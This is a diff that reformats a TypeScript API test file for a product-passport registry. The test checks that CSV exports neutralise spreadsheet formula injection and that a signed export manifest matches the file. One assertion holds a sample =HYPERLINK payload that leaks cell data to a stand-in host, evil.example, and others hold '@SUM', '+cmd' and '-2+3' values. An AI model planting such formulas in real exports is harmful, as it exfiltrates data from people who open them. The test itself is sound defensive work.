@@ -32,7 +32,10 @@ describe('published data only, safe CSV, drafts out of the audit log', () => {
   const revise = (id: string, expectedRevision: number, key = maker.key) =>
     gql(REVISE, { i: { passportId: id, expectedRevision, productName: `Lamp r${expectedRevision + 1}` } }, key);
   const credential = (id: string, revision: number | null, key: string) =>
-    t.http().get(`/passports/${id}/credential${revision === null ? '' : `?revision=${revision}`}`).set('authorization', `Bearer ${key}`);
+    t
+      .http()
+      .get(`/passports/${id}/credential${revision === null ? '' : `?revision=${revision}`}`)
+      .set('authorization', `Bearer ${key}`);
 
   beforeAll(async () => {
     t = await TestApp.start({ publicBaseUrl: 'https://registry.example.org' });
@@ -107,11 +110,17 @@ describe('published data only, safe CSV, drafts out of the audit log', () => {
       composition.components[1].materials[2].name = '\tTab';
       const id = await register(maker, { publish: true, composition });
 
-      const res = await t.http().get('/exports/materials.csv').set('authorization', `Bearer ${auditor.key}`).buffer(true).parse((r, done) => {
-        const chunks: Buffer[] = [];
-        r.on('data', (chunk: Buffer) => chunks.push(chunk));
-        r.on('end', () => done(null, Buffer.concat(chunks)));
-      }).expect(200);
+      const res = await t
+        .http()
+        .get('/exports/materials.csv')
+        .set('authorization', `Bearer ${auditor.key}`)
+        .buffer(true)
+        .parse((r, done) => {
+          const chunks: Buffer[] = [];
+          r.on('data', (chunk: Buffer) => chunks.push(chunk));
+          r.on('end', () => done(null, Buffer.concat(chunks)));
+        })
+        .expect(200);
       const bytes = res.body as Buffer;
       const text = bytes.toString('utf8');
       expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2)"`);
@@ -119,7 +128,10 @@ describe('published data only, safe CSV, drafts out of the audit log', () => {
       expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
       expect(cells).toEqual(expect.arrayContaining([`'${ATTACK}`, "'@SUM(1+1)", "'-2+3", "'+cmd", "'\tTab"]));
 
-      const rows = text.trimEnd().split('\r\n').filter((line) => line.startsWith(id));
+      const rows = text
+        .trimEnd()
+        .split('\r\n')
+        .filter((line) => line.startsWith(id));
       const housing = rows.find((line) => line.includes("'@SUM(1+1)"))!;
       // Numbers the registry writes stay numbers: the aluminium's mass and recycled share.
       expect(housing).toMatch(/,0\.079,0\.079,50,/);
@@ -129,7 +141,11 @@ describe('published data only, safe CSV, drafts out of the audit log', () => {
 
       const asOf = res.headers['x-export-as-of'];
       const manifest = (
-        await t.http().get(`/exports/materials.csv.manifest.json?asOf=${encodeURIComponent(asOf)}`).set('authorization', `Bearer ${auditor.key}`).expect(200)
+        await t
+          .http()
+          .get(`/exports/materials.csv.manifest.json?asOf=${encodeURIComponent(asOf)}`)
+          .set('authorization', `Bearer ${auditor.key}`)
+          .expect(200)
       ).body.manifest;
       expect(manifest.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
       const jwks = (await t.http().get('/.well-known/jwks.json').expect(200)).body;
